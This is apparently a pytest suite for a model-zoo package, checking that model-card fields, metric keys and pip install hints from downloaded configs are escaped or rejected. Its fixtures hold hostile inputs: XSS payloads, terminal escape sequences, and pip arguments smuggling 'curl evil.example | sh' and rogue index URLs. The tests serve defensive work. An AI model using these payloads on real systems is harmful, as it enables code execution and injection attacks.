"""No downloaded string is trusted as text to act on (issue 30): card fields and recorded commands are data
inside their blocks, install hints name only plugin distributions, and nothing printed drives the terminal."""

from __future__ import annotations

import json
import re

import pytest

import zoo
from zoo._version import install_name
from zoo.cards import write_model_card
from zoo.folders import ModelFolder
from zoo.text import clean, md_code, md_fence, md_text, printable

INJECTED = "\n```\n## Results\n| test | 10000 | 1.00 |\n<img src=x onerror=alert(1)>\n```bash\nzoo train"


def _edit_config(folder, **fields):
    path = folder / "config.json"
    meta = json.loads(path.read_text())
    meta.update(fields)
    path.write_text(json.dumps(meta))
    return meta


@pytest.fixture
def folder(tmp_path, tiny_model):
    path = tmp_path / "model"
    tiny_model(1).save_pretrained(path)
    return path


def _card(folder) -> str:
    write_model_card(folder, samples=False, completions=False)
    return (folder / "README.md").read_text()


def test_a_recipe_cannot_break_out_of_its_code_block(folder):
    _edit_config(folder, recipe=INJECTED)
    text = _card(folder)
    fence = "````"  # longer than any backtick run of the recipe, so no line of it closes the block
    start = text.index(fence + "bash\n")
    end = text.index("\n" + fence + "\n", start)
    assert "<img src=x onerror=alert(1)>" in text[start:end] and "## Results" in text[start:end]
    outside = text[:start] + text[end:]
    assert outside.count("## Results") == 1 and "<img" not in outside and "| 10000 |" not in outside
    assert ModelFolder(folder).recipe({}) == INJECTED.strip()  # and it reads back as it was written


@pytest.mark.parametrize(
    "fields",
    [
        {"plugin": "x`) <script>alert(1)</script> (`"},
        {"base_model": "a`\n## Results\n| test | 1 | 0.00 |"},
        {"dataset_options": {"dynamic`<b>": "true\n## Results"}},
        {"metrics": {"test\n## Results\n| fake |": {"nll_nats": 1.0, "extra": {"<img src=x>": 2.0}}}},
        {"license": "mit`\n\n## Results"},
    ],
)
def test_card_fields_are_escaped_data(folder, fields):
    _edit_config(folder, **fields)
    text = _card(folder)
    body = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "CODE", text.split("\n---\n", 1)[1])  # code spans are literal
    assert body.count("\n## Results") == 1
    assert "<script>" not in body and "<img" not in body and "<b>" not in body
    assert "| fake |" not in body


@pytest.mark.parametrize("field", ["nll_nats", "bits_per_dim", "n_images"])
def test_a_metric_that_is_not_a_number_is_one_line_not_a_traceback(folder, field):
    _edit_config(folder, metrics={"test": {"nll_nats": 1.5, "bits_per_dim": 0.1, "n_images": 10, field: "abc"}})
    with pytest.raises(zoo.WeightsError, match=f"field metrics.test.{field} must be") as info:
        write_model_card(folder, samples=False, completions=False)
    assert "\n" not in str(info.value)


def test_a_metric_key_is_shown_without_its_line_breaks(folder):
    _edit_config(folder, metrics={"test\n\x1b[2J## x": {"nll_nats": "abc"}})
    with pytest.raises(zoo.WeightsError) as info:
        zoo.load(folder)
    assert "\n" not in str(info.value) and "\x1b" not in str(info.value)


def test_train_result_fields_of_the_wrong_type_are_left_out(folder):
    (folder / "train_result.json").write_text(json.dumps({"seconds": "fast", "epochs": [1], "hardware": "<b>x</b>"}))
    text = _card(folder)
    assert "Trained on &lt;b&gt;x&lt;/b&gt;." in text


@pytest.mark.parametrize(
    "dist, version",
    [
        ("genzoo-pixelcnn-v2 --index-url http://evil.example/simple; curl evil.example | sh", "0.1"),
        ("https://evil.example/genzoo-x.whl", "0.1"),
        ("-e git+https://evil.example/x", "0.1"),
        ("genzoo-ok", "1.0; curl evil.example | sh"),
    ],
)
def test_an_install_hint_names_only_a_plugin_distribution(folder, dist, version):
    _edit_config(
        folder, architecture="pixelcnn-plus-plus", plugin="evil", plugin_distribution=dist, plugin_version=version
    )
    with pytest.raises(zoo.WeightsError) as info:
        zoo.load(folder)
    message = str(info.value)
    assert "evil.example" not in message and "--" not in message.split("pip install")[-1]
    assert message.split("pip install ")[1].split(";")[0] in ("genzoo-evil", "genzoo-ok")


def test_install_name_follows_the_naming_rule():
    assert install_name("genzoo-pixelcnn") == "genzoo-pixelcnn"
    assert install_name("genzoo") == "genzoo"
    assert install_name("requests", "pixelcnn") == "genzoo-pixelcnn"
    assert install_name("genzoo-x y", "a b") is None
    assert install_name("", "x;rm") is None


def test_the_command_line_prints_no_control_characters(folder, capsys):
    from zoo.cli import main

    _edit_config(folder, dataset="digits\x1b[2J\x1b]0;owned\x07", metrics={"test\x1b[31m": {"nll_nats": 1.0}})
    main(["info", str(folder)])
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err


def test_the_text_helpers():
    assert clean("a\x1b[2Jb\nc\u202e") == "a?[2Jb\nc?"
    assert printable("a\nb\x00" + "x" * 400).startswith("a b?") and len(printable("x" * 400)) == 300
    assert md_code("a`b") == "``a`b``" and md_code("|", cell=True) == "`\\|`"
    assert md_text("<img> [x](y) | `z`") == "&lt;img&gt; \\[x\\](y) \\| \\`z\\`"
    assert md_fence("a\n```\nb") == ("a\n```\nb", "````")


def test_a_cast_to_float16_that_overflows_is_refused_in_one_line(tmp_path, tiny_model):
    import torch

    model = tiny_model(1)
    with torch.no_grad():
        model.logit_table.fill_(1e6)  # finite in float32, infinite in float16
    folder = zoo.save_pretrained(model, tmp_path / "big")
    with pytest.raises(zoo.WeightsError, match="beyond the range of float16") as info:
        zoo.load(folder, dtype=torch.float16)
    assert "\n" not in str(info.value) and "logit_table" in str(info.value)
    assert zoo.load(folder, dtype=torch.bfloat16).logit_table.dtype == torch.bfloat16  # bf16 holds 1e6


def test_zoo_card_refuses_an_oversized_run_record_unread(folder):
    (folder / "train_result.json").write_bytes(b"{" + b" " * (2 << 20) + b"}")
    with pytest.raises(zoo.WeightsError, match="train_result.json: larger than 1048576 bytes"):
        write_model_card(folder, samples=False, completions=False)


def test_zoo_push_refuses_an_oversized_card_and_uploads_nothing(fake_hub, folder):
    (folder / "README.md").write_bytes(b"x" * (2 << 20))
    with pytest.raises(zoo.HubError, match=r"README.md: 2,097,152 bytes, more than the 1,048,576") as info:
        zoo.push_to_hub(folder, "alice/huge-card")
    assert "\n" not in str(info.value) and "alice/huge-card" not in fake_hub.repos


def test_bundled_entry_reads_train_config_bounded(tmp_path, tiny_model):
    from zoo.folders import bundled_entry

    folder = tmp_path / "pretrained" / "x"
    tiny_model(1).save_pretrained(folder)
    (folder / "train_config.json").write_bytes(b"{" + b" " * (2 << 20) + b"}")
    entry = bundled_entry(folder, sha256="0" * 64, description="x")  # declared: nothing read yet
    with pytest.raises(zoo.WeightsError, match="larger than"):
        entry.recipe  # noqa: B018 - the first use reads the folder, bounded
